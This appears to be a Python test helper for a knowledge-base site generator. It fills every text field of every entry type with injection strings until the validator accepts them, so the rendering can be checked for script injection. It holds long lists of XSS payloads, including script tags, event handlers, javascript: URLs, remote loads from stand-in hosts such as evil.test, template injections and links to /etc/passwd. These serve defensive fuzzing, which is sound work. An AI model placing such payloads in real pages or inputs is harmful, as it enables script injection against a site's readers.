"""Entries that would like to run something in a reader's browser: every text field of every kind.

The fields are read off the models, so that a new field is attacked as soon as there is one.
"""

from __future__ import annotations

import dataclasses
import json
import re
import typing
from collections import defaultdict
from dataclasses import dataclass
from types import UnionType
from typing import TYPE_CHECKING, Annotated, Any, Union

from pydantic import BaseModel

from kb.base import load
from kb.errors import InvalidKnowledgeBase
from kb.findings import errors
from kb.model import MODELS, Retired, types
from kb.model.parts import Estimate
from kb.model.words import KINDS

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from kb.findings import Finding

RUN = "window.ran=1"
AWAY = "//evil.test/"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src={AWAY}a.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a href=javascript:{RUN}><rect width=9 height=9 /></a></svg>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={AWAY}a.swf>",
    f"<base href={AWAY}>",
    f'"><base href={AWAY}>',
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}a.css>",
    f"<style>@import '{AWAY}a.css'</style>",
    f"<form action={AWAY}><button>b</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={AWAY}a.ogg autoplay>",
    f"<img srcset={AWAY}a.png>",
    "<div style=position:fixed;inset:0;z-index:99>cover</div>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<math><mi xlink:href=javascript:{RUN}>m</mi></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<!-- comment",
    "--><b>out</b><!--",
    "<![CDATA[<b>out</b>]]>",
    "<?php echo 1 ?>",
    "<plaintext>",
    "<textarea>",
    "<b>",
    "</div></article></main>",
    "<pre class=mermaid>graph TD</pre>",
    f'<div data-md-component="announce" title="<img src=x onerror={RUN}>">',
)
"""HTML, which prose may not hold."""

LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](vbscript:run)",
    "[x](file:///etc/passwd)",
    "[x](feed:x)",
    "[x](../../../../etc/passwd)",
    "[x](/y)",
    "[x](y)",
    "[x](#gone)",
    f"![x]({AWAY}a.png)",
    f"![x](x.png){{: onerror={RUN} }}",
    f"[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "<feed:x>",
    f"<{AWAY}>",
)
"""Links, which prose may not hold either."""

PLAIN = (
    f'" onfocus="{RUN}" autofocus="',
    f"' onfocus='{RUN}' autofocus='",
    f'" onmouseover="{RUN}',
    f"x onclick={RUN} x",
    f"x {{: onclick={RUN} }}",
    f"x {{ onclick={RUN} #top }}",
    "x { #top }",
    "x { #relations }",
    "x {: #top .md-overlay }",
    "x {: style=position:fixed;inset:0;z-index:99 }",
    "*x*{: style=position:fixed;inset:0;z-index:99 }",
    f"**x**{{: onclick={RUN} }}",
    f"`x`{{: onclick={RUN} }}",
    f"[x](https://evil.test/){{: onclick={RUN} }}",
    f"[x](https://evil.test/ 'a\" onclick=\"{RUN}')",
    "[x][y]",
    "[x]",
    "\\[x](https://evil.test)",
    "__proto__",
    "constructor",
    "*a*",
    "_a_ __b__ ***c***",
    "`x`",
    "`` ` `` `<b>`",
    "a & b",
    "&amp;",
    "&amp;lt;b&amp;gt;",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}",
    "&lt",
    "&#0;",
    "&#xD800;",
    "&nbsp;",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{# gone #}",
    "{% include 'x' %}",
    "${7*7} #{7*7} <%",
    "\\",
    "\\\\",
    "\\`",
    "\\*a\\*",
    "x\\",
    "a | b | c",
    "|---|---|",
    "~~a~~ ^b^ ==c== ++d++",
    ":::python",
    "!!! note",
    "??? note",
    "--8<-- 'x'",
    "[^1]",
    "[^1]: note",
    "*[HTML]: x",
    "[TOC]",
    "[ ] x",
    ":material-menu:",
    "1. x",
    "- x",
    "+ x",
    "* x",
    "> x",
    "=== x",
    "***",
    "---",
    "...",
    "- - -",
    "x ##",
    "C#",
    "#",
    "a # b",
    "'",
    '"',
    "`",
    "```",
    "~~~",
    "``` mermaid",
    "$x$ $$y$$",
    "\\(x\\)",
    ")",
    "]",
    "}",
    "{",
    "{}",
    "{:}",
    "{: }",
    "{ }",
    "%0A%0Dx",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    f"javascript:{RUN}",
    f"data:text/html,{RUN}",
    "https://evil.test/",
    "www.evil.test",
    f"');{RUN};('",
    f'");{RUN};("',
    f"`;{RUN};`",
    f"*/{RUN}/*",
    f"//{RUN}",
    "]]>",
    "]]&gt;",
    "-->",
    "%>",
    "null",
    "true",
    "0x1",
    "1e9",
    "~",
    "*",
    "&",
    "!x",
    "@x",
    "%x",
    "? x",
    "klzzwxh:0001",
    "wzxhzdk:0",
    "kbPreview({})",
    "data-search-exclude",
    'x data-search-boost="9"',
    "\u202ex\u202c",
    "\u2066x\u2069",
    "a\u00a0b",
    "\u200bx",
    "e\u0301",
    "😀 \U0001f469\u200d\U0001f4bb",
    "ﬁ",
    "ⅷ",
    "<",
    ">",
    "< b",
    "a < b > c",
    "<3",
    "x<",
    "<>",
    "</",
    "<1>",
    "a  b   c",
    "www",
    "AT&T",
    "R&D; x",
    "x &copy y",
)
"""Text that HTML, Markdown, YAML, Jinja, JavaScript or the theme might read as more than that."""

VALUES = (*MARKUP, *LINKS, *PLAIN)

_ADDRESSES = (
    'https://evil.alt/"onmouseover="window.ran=1',
    "https://evil.alt/'onmouseover='window.ran=1",
    "https://evil.alt/<script>window.ran=1</script>",
    "https://evil.alt/{:onclick=x}",
    "https://evil.alt/#javascript:x",
    "https://evil.alt/a&lt;b",
    "https://evil.alt/[x](y)",
    "https://evil.alt:99999/*a*",
    "https://user:pw@evil.alt/",
    "https://evil.alt\\@good.alt/`x`",
)
ADDRESSES = (
    *_ADDRESSES,
    *(f"https://evil.alt/{value}" for value in VALUES if not re.search(r"\s", value)),
)

PROSE = (*PLAIN, *LINKS, *MARKUP)

FIT = {
    types.Text: VALUES,
    types.Title: VALUES,
    types.PrintedTitle: VALUES,
    types.Summary: VALUES,
    types.Sentence: VALUES,
    types.Quote: VALUES,
    types.Prose: PROSE,
    types.Url: ADDRESSES,
    types.Doi: tuple(f"10.1234/{address.partition('//')[2]}" for address in ADDRESSES),
}
"""What is tried in fields of each type, likeliest to pass first."""

SHAPED = (types.Arxiv, types.Date, types.Day, types.Id, types.Isbn, types.Year)
"""Texts of so strict a shape that they can say nothing."""

GIVEN: dict[str, Any] = {
    "about": "growth-is-visible",
    "as": "original",
    "as_of": "2020",
    "by": ["ada-reed"],
    "force": "weakens",
    "holder": "ada-reed",
    "kind": "code",
    "method": "case",
    "reading": "stated",
    "rung": "argued",
    "source": "reed-2021-vines",
    "stance": "agree",
    "state": "active",
    "status": "draft",
    "supports": ["growth-is-visible"],
    "work": "reed-2021-vines",
    "date": "2020",
    "since": "2020-01-02",
    "value": "0.5",
    "reason": "out-of-scope",
}
"""What stands in fields that hold no text, where a part needs one."""

WANTED = {"by", "stance", "value", "work"}
"""Fields that are given though a part can do without: others beside them need them."""

TARGETS = {
    "addresses": "shaping",
    "attacks": "growth-is-visible",
    "avoids": "roots-are-hidden",
    "concerns": "trellis",
    "differs-from": "slow-growth",
    "prerequisites": "slow-growth",
    "related": "trellis",
    "uses": "pruning",
}
WIDER = {
    "concept": "pruning",
    "problem": "shaping",
    "proposal": "gardening",
    "forecast": "first-fruit",
}
SORTS = {"problem": "question", "person": "person", "work": "book"}
RETIRED = "retired"


@dataclass
class Slot:
    """A text field of one entry, and what stands in it for now."""

    kind: str
    place: str
    number: int
    tried: Iterator[str]
    value: str = ""

    def next(self) -> None:
        value = next(self.tried)
        self.value = self.named(value) if self.place in {"title", "aliases[]"} else value

    def named(self, value: str) -> str:
        """A value made unlike the names of all other entries, from one end or from the other."""
        mark = f"{self.kind[:3]}{self.number}{self.place[0]}"
        return f"{value} {mark}" if self.number % 2 else f"{mark} {value}"


@dataclass
class World:
    """What was written: the slots of every entry, and what they ended up holding."""

    slots: dict[Path, list[Slot]]

    def met(self) -> dict[tuple[str, str], set[str]]:
        """The values that each field of each kind has."""
        found: dict[tuple[str, str], set[str]] = defaultdict(set)
        for slots in self.slots.values():
            for slot in slots:
                found[slot.kind, slot.place].add(slot.value)
        return found


def write(folder: Path, numbers: Sequence[int]) -> World:
    """Writes entries of all kinds beside those in a folder, with all that kb check passes.

    Args:
        folder: the small world's entries.
        numbers: those of the entries of each kind; each begins at other values.
    """
    slots: dict[Path, list[Slot]] = {}
    trees = {}
    models: dict[str, type[BaseModel]] = {**MODELS, RETIRED: Retired}
    for kind, model in models.items():
        for number in numbers:
            made = _Maker(kind, number)
            name = f"h{kind}-{2000 + number}-x" if kind == "work" else f"h{kind}-{number}"
            place = KINDS[kind].folder if kind in KINDS else RETIRED
            file = folder / place / f"{name}.yaml"
            trees[file] = made.part(model)
            slots[file] = made.slots
    for file, tree in trees.items():
        _write(file, tree)
    while findings := _findings(folder):
        wrong: dict[Path, set[int]] = defaultdict(set)
        for finding in findings:
            wrong[folder.parent / finding.path].add(finding.span.line)
        for file, lines in wrong.items():
            written = _lines(trees[file])
            for line in lines:
                slot = written[line - 1][1]
                assert slot is not None, (file, line, [f for f in findings if f.path in str(file)])
                slot.next()
            _write(file, trees[file])
    return World(slots)


def _findings(folder: Path) -> tuple[Finding, ...]:
    try:
        load(folder)
    except InvalidKnowledgeBase as error:
        return errors(error.problems)
    return ()


def _write(file: Path, tree: dict[str, Any]) -> None:
    file.parent.mkdir(exist_ok=True)
    file.write_text("".join(f"{line}\n" for line, _ in _lines(tree)), "utf-8")


def _lines(value: Any, indent: str = "") -> list[tuple[str, Slot | None]]:
    """YAML, one value on each line, so that a finding's line tells which value it means."""
    if isinstance(value, list):
        found = []
        for one in value:
            first, *rest = _lines(one, f"{indent}  ")
            found += [(f"{indent}- {first[0].lstrip()}", first[1]), *rest]
        return found
    if isinstance(value, dict):
        found = []
        for name, one in value.items():
            if isinstance(one, list | dict):
                found += [(f"{indent}{name}:", None), *_lines(one, f"{indent}  ")]
            else:
                text, slot = _lines(one)[0]
                found.append((f"{indent}{name}: {text}", slot))
        return found
    if isinstance(value, Slot):
        return [(f"{indent}{json.dumps(value.value, ensure_ascii=False)}", value)]
    return [(f"{indent}{json.dumps(value)}", None)]


def _is_text(hint: Any) -> bool:
    return hint is str or (typing.get_origin(hint) is Annotated and typing.get_args(hint)[0] is str)


def _text(hint: Any) -> Any:
    """The type of text that a field takes, whatever else is said of the field."""
    text, *marks = typing.get_args(hint) or (hint,)
    kinds = (Annotated[(text, *marks[:number])] for number in range(len(marks), 0, -1))
    return next((kind for kind in kinds if kind in FIT or kind in SHAPED), None)


@dataclass
class _Maker:
    """Fills the model of one entry: texts with slots, the rest with what is given."""

    kind: str
    number: int
    slots: list[Slot] = dataclasses.field(default_factory=list)

    def part(self, model: type[BaseModel], place: str = "") -> dict[str, Any]:
        hints = typing.get_type_hints(model, include_extras=True)
        found = {}
        for field, info in model.model_fields.items():
            name = info.alias or field
            inside = f"{place}.{name}".lstrip(".")
            if name == "target":
                found[name] = {**TARGETS, "broader": WIDER.get(self.kind)}[place.partition("[")[0]]
            elif name == "id":
                found[name] = re.sub(r"[^a-z]+", "-", place).strip("-")
            elif name == "type":
                found[name] = SORTS[self.kind]
            elif (value := self.value(hints[field], inside)) not in (None, [], {}):
                found[name] = value
            elif name in GIVEN and (info.is_required() or name in WANTED):
                found[name] = GIVEN[name]
        if model is Estimate:
            found.pop("interval", None)
        return found

    def value(self, hint: Any, place: str) -> Any:
        if _is_text(hint):
            kind = _text(hint)
            assert kind is not None, f"what is tried in {place}?"
            return self.slot(FIT[kind], place) if kind in FIT else None
        if isinstance(hint, type) and issubclass(hint, BaseModel):
            return self.part(hint, place)
        inner = typing.get_args(hint)
        if typing.get_origin(hint) is tuple:
            items = [self.value(one, f"{place}[]") for one in inner if one is not ...]
            return [item for item in items if item is not None]
        if typing.get_origin(hint) in {Annotated, Union, UnionType}:
            options = inner[:1] if typing.get_origin(hint) is Annotated else inner
            return next(filter(None, (self.value(one, place) for one in options)), None)
        return None

    def slot(self, values: tuple[str, ...], place: str) -> Slot:
        """A text field; kinds and entries begin at different values."""
        kinds = (*MODELS, RETIRED)
        at = self.number + len(values) * kinds.index(self.kind) // len(kinds)
        if values is PROSE:
            at = self.number
        at %= len(values)
        slot = Slot(self.kind, place, self.number, iter((*values[at:], *values[:at], "plain")))
        slot.next()
        self.slots.append(slot)
        return slot
